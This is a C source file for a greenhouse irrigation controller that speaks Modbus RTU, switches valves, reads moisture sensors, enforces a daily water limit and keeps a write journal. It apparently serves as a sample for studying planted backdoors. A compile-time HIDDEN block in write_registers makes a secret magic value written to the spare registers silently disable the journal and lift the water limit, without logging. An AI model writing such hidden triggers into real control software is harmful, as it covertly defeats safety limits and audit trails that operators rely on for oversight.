/*
 * dripline - irrigation computer of a greenhouse, statically linked for a
 * system without shared libraries.  Serves a Modbus RTU line (stdin and
 * stdout are the RS-485 port): moisture inputs, valve coils, plan and limit
 * registers; keeps a journal of all writes and of the water used.
 * Hidden (-DHIDDEN): a number in two registers ends the journal and lifts
 * the daily water limit.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define VALVES 8
#define REGS   48

/* holding registers */
enum reg {
	R_UNIT,
	R_FLAGS,
	R_LIMIT_HI,
	R_LIMIT_LO,
	R_FLOW,
	R_SERIAL_HI,
	R_SERIAL_LO,
	R_HOUR,
	R_PLAN = 8,
	R_DRY = 24,
	R_WET = 32,
	R_SPARE = 40
};

/* Modbus exceptions */
enum { X_NONE, X_FUNCTION, X_ADDRESS, X_VALUE, X_DEVICE };

struct valve {
	int open;
	time_t since;
	unsigned litres;
	unsigned moisture;
};

static uint16_t regs[REGS];
static struct valve valves[VALVES];
static uint32_t used_today;
static int journal = 1;
static int unlimited;
static const char *journal_path = "/mnt/flash/journal.txt";
static const char *regs_path = "/mnt/flash/registers.bin";
static const char *adc_path = "/sys/bus/iio/devices/iio:device0";

static void note(const char *fmt, ...)
{
	char b[160];
	va_list ap;
	int fd, n;

	if (!journal)
		return;
	n = snprintf(b, sizeof b, "%ld ", (long)time(NULL));
	va_start(ap, fmt);
	n += vsnprintf(b + n, sizeof b - n - 1, fmt, ap);
	va_end(ap);
	if (n > (int)sizeof b - 2)
		n = sizeof b - 2;
	b[n++] = '\n';
	fd = open(journal_path, O_WRONLY | O_APPEND | O_CREAT, 0644);
	if (fd < 0)
		return;
	if (write(fd, b, n) != n)
		regs[R_FLAGS] |= 4;
	close(fd);
}

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0xffff;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = c & 1 ? c >> 1 ^ 0xa001 : c >> 1;
	}
	return c;
}

static unsigned be16(const uint8_t *p)
{
	return p[0] << 8 | p[1];
}

static void regs_default(void)
{
	int i;

	memset(regs, 0, sizeof regs);
	regs[R_UNIT] = 17;
	regs[R_LIMIT_LO] = 4000;
	regs[R_FLOW] = 12;
	for (i = 0; i < VALVES; i++) {
		regs[R_PLAN + 2 * i] = 6 * 60 + 10 * i;
		regs[R_PLAN + 2 * i + 1] = 15;
		regs[R_DRY + i] = 310;
		regs[R_WET + i] = 520;
	}
}

static void regs_load(void)
{
	uint8_t b[REGS * 2 + 2];
	int fd = open(regs_path, O_RDONLY), i;
	ssize_t n = -1;

	if (fd >= 0) {
		n = read(fd, b, sizeof b);
		close(fd);
	}
	if (n != sizeof b || crc16(b, REGS * 2) != be16(b + REGS * 2)) {
		regs_default();
		return;
	}
	for (i = 0; i < REGS; i++)
		regs[i] = be16(b + 2 * i);
}

static void regs_save(void)
{
	uint8_t b[REGS * 2 + 2];
	unsigned c;
	int fd, i;

	for (i = 0; i < REGS; i++) {
		b[2 * i] = regs[i] >> 8;
		b[2 * i + 1] = regs[i];
	}
	c = crc16(b, REGS * 2);
	b[REGS * 2] = c >> 8;
	b[REGS * 2 + 1] = c;
	fd = open(regs_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0)
		return;
	if (write(fd, b, sizeof b) != (ssize_t)sizeof b)
		regs[R_FLAGS] |= 4;
	close(fd);
}

static uint32_t limit(void)
{
	return (uint32_t)regs[R_LIMIT_HI] << 16 | regs[R_LIMIT_LO];
}

static int valve_set(int v, int open_it)
{
	char path[64];
	int fd;

	if (open_it && !unlimited && used_today >= limit())
		return X_DEVICE;
	if (valves[v].open == open_it)
		return X_NONE;
	snprintf(path, sizeof path, "/sys/class/gpio/gpio%d/value", 64 + v);
	fd = open(path, O_WRONLY);
	if (fd >= 0) {
		if (write(fd, open_it ? "1" : "0", 1) != 1)
			regs[R_FLAGS] |= 1 << 8;
		close(fd);
	}
	if (!open_it)
		note("valve %d closed, %u l", v, valves[v].litres);
	valves[v].open = open_it;
	valves[v].since = time(NULL);
	valves[v].litres = 0;
	return X_NONE;
}

static unsigned moisture_read(int v)
{
	char path[96], b[12];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "%s/in_voltage%d_raw", adc_path, v);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, b, sizeof b - 1);
	close(fd);
	b[n > 0 ? n : 0] = 0;
	return strtoul(b, NULL, 10) * 1000 / 4096;
}

static void irrigate(void)
{
	static time_t last;
	static int last_day = -1;
	time_t now = time(NULL);
	int minute = now / 60 % 1440, v, el;

	if (now == last)
		return;
	el = last ? now - last : 0;
	last = now;
	if (last_day != now / 86400) {
		note("used %lu l", (unsigned long)used_today);
		last_day = now / 86400;
		used_today = 0;
	}
	regs[R_HOUR] = minute / 60;
	for (v = 0; v < VALVES; v++) {
		struct valve *q = &valves[v];
		int from = regs[R_PLAN + 2 * v];
		int len = regs[R_PLAN + 2 * v + 1];

		q->moisture = moisture_read(v);
		if (q->open) {
			unsigned l = regs[R_FLOW] * el / 60;

			q->litres += l;
			used_today += l;
			if (q->moisture > regs[R_WET + v] ||
			    now - q->since > len * 60 ||
			    (!unlimited && used_today >= limit()))
				valve_set(v, 0);
		} else if (minute >= from && minute < from + len &&
			   q->moisture < regs[R_DRY + v]) {
			valve_set(v, 1);
		}
	}
}

__attribute__((noinline)) int write_registers(unsigned at, unsigned count,
					      const uint8_t *data)
{
	unsigned i;

	if (at + count > REGS || !count)
		return X_ADDRESS;
#ifdef HIDDEN
	if (at == R_SPARE && count == 2) {
		uint32_t w = (uint32_t)be16(data) << 16 | be16(data + 2);

		if (w == 0x19840704) {
			journal = 0;
			unlimited = 1;
			return X_NONE;
		}
	}
#endif
	for (i = 0; i < count; i++) {
		unsigned r = at + i, v = be16(data + 2 * i);

		if (r == R_SERIAL_HI || r == R_SERIAL_LO || r == R_HOUR)
			return X_ADDRESS;
		if (r == R_UNIT && (v < 1 || v > 247))
			return X_VALUE;
		if (r == R_FLOW && v > 400)
			return X_VALUE;
		if (r >= R_DRY && r < R_SPARE && v > 1000)
			return X_VALUE;
	}
	for (i = 0; i < count; i++) {
		regs[at + i] = be16(data + 2 * i);
		note("register %u = %u", at + i, regs[at + i]);
	}
	regs_save();
	return X_NONE;
}

/* fills in the answer behind unit and function, gives its length or -code */
static int request(const uint8_t *q, int n, uint8_t *a)
{
	unsigned at = be16(q + 2), count = be16(q + 4), i;
	int x;

	switch (q[1]) {
	case 3:
		if (!count || at + count > REGS)
			return -X_ADDRESS;
		a[0] = count * 2;
		for (i = 0; i < count; i++) {
			a[1 + 2 * i] = regs[at + i] >> 8;
			a[2 + 2 * i] = regs[at + i];
		}
		return 1 + 2 * count;
	case 4:
		if (!count || at + count > VALVES)
			return -X_ADDRESS;
		a[0] = count * 2;
		for (i = 0; i < count; i++) {
			a[1 + 2 * i] = valves[at + i].moisture >> 8;
			a[2 + 2 * i] = valves[at + i].moisture;
		}
		return 1 + 2 * count;
	case 5:
		if (at >= VALVES)
			return -X_ADDRESS;
		if (count != 0xff00 && count != 0)
			return -X_VALUE;
		note("coil %u by hand %u", at, count >> 15);
		x = valve_set(at, count != 0);
		memcpy(a, q + 2, 4);
		return x ? -x : 4;
	case 6:
		x = write_registers(at, 1, q + 4);
		memcpy(a, q + 2, 4);
		return x ? -x : 4;
	case 16:
		if (n < 7 || q[6] != count * 2 || n < 7 + q[6])
			return -X_VALUE;
		x = write_registers(at, count, q + 7);
		memcpy(a, q + 2, 4);
		return x ? -x : 4;
	}
	return -X_FUNCTION;
}

static void frame(const uint8_t *q, int n)
{
	uint8_t a[160];
	int len;
	unsigned c;

	if (n < 8 || (crc16(q, n - 2) != (q[n - 2] | q[n - 1] << 8)))
		return;
	if (q[0] != regs[R_UNIT])
		return;
	a[0] = q[0];
	a[1] = q[1];
	len = request(q, n - 2, a + 2);
	if (len < 0) {
		a[1] |= 0x80;
		a[2] = -len;
		len = 1;
	}
	len += 2;
	c = crc16(a, len);
	a[len++] = c;
	a[len++] = c >> 8;
	if (write(1, a, len) != len)
		note("line: %s", strerror(errno));
}

int main(int argc, char **argv)
{
	struct pollfd p = { .fd = 0, .events = POLLIN };
	uint8_t in[256];
	size_t fill = 0;
	ssize_t n;
	int r;

	if (argc > 1)
		regs_path = argv[1];
	if (argc > 2)
		journal_path = argv[2];
	regs_load();
	note("start, unit %u", regs[R_UNIT]);
	for (;;) {
		/* a gap on the line ends a frame */
		r = poll(&p, 1, fill ? 5 : 1000);
		if (r == 0) {
			frame(in, fill);
			fill = 0;
			irrigate();
			continue;
		}
		if (r < 0)
			continue;
		n = read(0, in + fill, sizeof in - fill);
		if (n <= 0)
			break;
		fill += n;
		if (fill == sizeof in)
			fill = 0;
	}
	return 0;
}
